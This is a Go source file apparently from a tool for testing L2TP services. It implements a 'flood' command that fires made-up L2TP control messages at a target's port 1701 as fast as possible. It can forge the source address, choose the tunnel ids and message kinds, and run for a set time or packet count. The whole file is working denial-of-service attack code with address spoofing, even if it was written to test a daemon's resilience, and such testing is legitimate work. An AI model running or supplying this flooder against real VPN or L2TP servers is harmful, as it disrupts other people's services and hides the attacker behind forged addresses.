package foreign

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"
)

// batch is how many packets go out between two looks at the clock.
const batch = 16

// Flood sends made-up control messages, as fast as it can: what any local user,
// and any host that reaches port 1701, can do. It prints how many packets it sent.
func Flood(args []string) error {
	flags := flag.NewFlagSet("flood", flag.ContinueOnError)
	to := flags.String("to", "", "address that is attacked, at port 1701")
	port := flags.Uint("port", 0, "source port; 1701 is shared with xl2tpd (0: any)")
	source := flags.String("source", "", "source address that is forged (none: the own one); needs root")
	span := flags.Duration("for", time.Second, "how long")
	count := flags.Int("count", 0, "end after so many packets (0: when the time is over)")
	pause := flags.Duration("pause", 0, "between two packets")
	tunnel := flags.Uint("tunnel", 0, "id of the tunnel in each message (0: any)")
	kinds := flags.String("kinds", "", "names of messages, with commas (none: all)")
	if err := flags.Parse(args); err != nil {
		return err
	}
	wanted, err := choose(*kinds)
	if err != nil {
		return err
	}
	target, err := netip.ParseAddr(*to)
	if err != nil {
		return err
	}
	send, err := open(target, *source, uint16(*port))
	if err != nil {
		return err
	}
	n := 0
	rng := rand.New(rand.NewPCG(1, 1))
	for end := time.Now().Add(*span); time.Now().Before(end); {
		for range batch {
			if *count > 0 && n == *count {
				break
			}
			// A full socket buffer is no reason to stop.
			if send(wanted[n%len(wanted)].packet(rng, uint16(*tunnel))) == nil {
				n++
			}
			time.Sleep(*pause)
		}
		if *count > 0 && n == *count {
			break
		}
	}
	fmt.Printf("%d packets\n", n)
	return nil
}

// choose finds messages by their names.
func choose(names string) ([]message, error) {
	if names == "" {
		return messages, nil
	}
	var chosen []message
	for name := range strings.SplitSeq(names, ",") {
		i := slices.IndexFunc(messages, func(m message) bool { return m.name == name })
		if i < 0 {
			return nil, fmt.Errorf("no message is called %q", name)
		}
		chosen = append(chosen, messages[i])
	}
	return chosen, nil
}
